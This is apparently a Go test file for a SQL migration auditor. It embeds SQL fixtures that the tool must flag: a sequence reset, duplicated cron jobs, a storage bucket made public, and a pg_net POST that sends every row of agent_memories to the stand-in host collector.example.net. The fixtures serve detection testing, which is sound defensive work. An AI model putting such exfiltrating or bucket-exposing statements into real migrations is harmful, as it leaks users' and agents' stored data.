package main

// Issue 36, class 3: what a migration changes beyond the catalog is audited. The rerun audit
// compares sequences, large objects and the environment's tables; the install's own changes to
// the environment's data (a public bucket, a request queued for the network) are findings at
// their statements. Each runs embedded and on a --dsn server.

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ledgercheck/ledgercheck/internal/scratch/scratchtest"
)

// stateRerun is a sidecar whose second run resets a sequence, leaves another large object, and
// adds another unnamed cron job and another pg_net request. Lines matter: the findings point at them.
const stateRerun = `-- Decision tags, with a nightly export to the ops webhook.
CREATE TABLE IF NOT EXISTS public.decision_tags (
  id   bigserial PRIMARY KEY,
  name text NOT NULL UNIQUE
);
ALTER TABLE public.decision_tags ENABLE ROW LEVEL SECURITY;
DROP POLICY IF EXISTS decision_tags_service_role_all ON public.decision_tags;
CREATE POLICY decision_tags_service_role_all ON public.decision_tags FOR ALL TO service_role USING (true) WITH CHECK (true);
GRANT SELECT, INSERT, UPDATE, DELETE ON TABLE public.decision_tags TO service_role;
SELECT setval('public.decision_tags_id_seq', 1);
SELECT lo_from_bytea(0, convert_to('tags export', 'UTF8'));
SELECT cron.schedule('0 5 * * *', $$SELECT 1$$);
SELECT net.http_get('https://ops.example.com/hooks/tags');
NOTIFY pgrst, 'reload schema';
`

// stateInstall is a sidecar whose install makes a bucket public and queues a request whose body
// is every agent memory.
const stateInstall = `-- Memory attachments, exported to the analytics service on deploy.
CREATE TABLE IF NOT EXISTS public.memory_files (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), path text NOT NULL);
ALTER TABLE public.memory_files ENABLE ROW LEVEL SECURITY;
DROP POLICY IF EXISTS memory_files_service_role_all ON public.memory_files;
CREATE POLICY memory_files_service_role_all ON public.memory_files FOR ALL TO service_role USING (true) WITH CHECK (true);
GRANT SELECT, INSERT, UPDATE, DELETE ON TABLE public.memory_files TO service_role;
INSERT INTO storage.buckets (id, name) VALUES ('memory-files', 'memory-files') ON CONFLICT (id) DO NOTHING;
UPDATE storage.buckets SET public = true WHERE id = 'memory-files';
DO $$ BEGIN
  PERFORM net.http_post(url := 'https://collector.example.net/v1/memories', body := (SELECT coalesce(jsonb_agg(m), '[]') FROM public.agent_memories AS m));
END $$;
NOTIFY pgrst, 'reload schema';
`

// finding is one finding of a JSON report, as these tests read it.
type jsonFinding struct {
	Rule     string `json:"rule"`
	Message  string `json:"message"`
	Object   string `json:"object"`
	Position struct {
		Line int `json:"line"`
	} `json:"position"`
}

// jsonFindings returns every finding of a JSON report, as "rule:line".
func jsonFindings(t *testing.T, out string) (map[string]jsonFinding, []string) {
	t.Helper()
	var rep struct {
		Phases []struct {
			Findings []jsonFinding `json:"findings"`
		} `json:"phases"`
	}
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("not a JSON report: %v\n%s", err, out)
	}
	got := map[string]jsonFinding{}
	var all []string
	for _, ph := range rep.Phases {
		for _, f := range ph.Findings {
			k := fmt.Sprintf("%s:%d", f.Rule, f.Position.Line)
			got[k] = f
			all = append(all, k+" "+f.Message)
		}
	}
	return got, all
}

func checkState(t *testing.T, extra []string) {
	dir := t.TempDir()
	rerunFile, installFile := filepath.Join(dir, "tags.sql"), filepath.Join(dir, "files.sql")
	os.WriteFile(rerunFile, []byte(stateRerun), 0o644)
	os.WriteFile(installFile, []byte(stateInstall), 0o644)

	code, out, errs := run(t, nil, append([]string{"rerun", "-q", "--no-fixture", "--format", "json", rerunFile}, extra...)...)
	got, all := jsonFindings(t, out)
	if code != 1 {
		t.Fatalf("rerun: exit %d, want 1; stderr %q; findings %q", code, errs, all)
	}
	for _, want := range []struct{ key, text string }{
		{"rerun-sequence-reset:10", "set it back"},
		{"rerun-large-objects-changed:11", "created 1 large object"},
		{"rerun-rows-duplicated:12", "cron.job"},
		{"rerun-rows-duplicated:13", "net.http_request_queue"},
	} {
		if f, ok := got[want.key]; !ok || !strings.Contains(f.Message+f.Object, want.text) {
			t.Errorf("rerun: no %s saying %q; findings %q", want.key, want.text, all)
		}
	}

	code, out, errs = run(t, nil, append([]string{"lint", "-q", "--install", "--dim", "1536", "--format", "json", installFile}, extra...)...)
	got, all = jsonFindings(t, out)
	if code != 1 {
		t.Fatalf("lint --install: exit %d, want 1; stderr %q; findings %q", code, errs, all)
	}
	for _, want := range []struct{ key, text string }{
		{"bucket-made-public:8", "makes bucket memory-files public"},
		{"outbound-request-queued:10", "queues a POST request to https://collector.example.net/v1/memories"},
	} {
		if f, ok := got[want.key]; !ok || !strings.Contains(f.Message, want.text) {
			t.Errorf("lint --install: no %s saying %q; findings %q", want.key, want.text, all)
		}
	}
	if _, ok := got["environment-data-changed:7"]; ok {
		t.Errorf("the bucket made public is reported twice (as a change of storage.buckets too): %q", all)
	}
}

// TestStateBeyondTheCatalogIsAudited: embedded.
func TestStateBeyondTheCatalogIsAudited(t *testing.T) {
	scratchtest.NeedPostgres(t)
	checkState(t, nil)
}

// TestStateBeyondTheCatalogIsAuditedOnDSN: on a --dsn server.
func TestStateBeyondTheCatalogIsAuditedOnDSN(t *testing.T) {
	srv := scratchtest.SharedDSNServer(t)
	checkState(t, []string{"--dsn", srv.DSN})
}
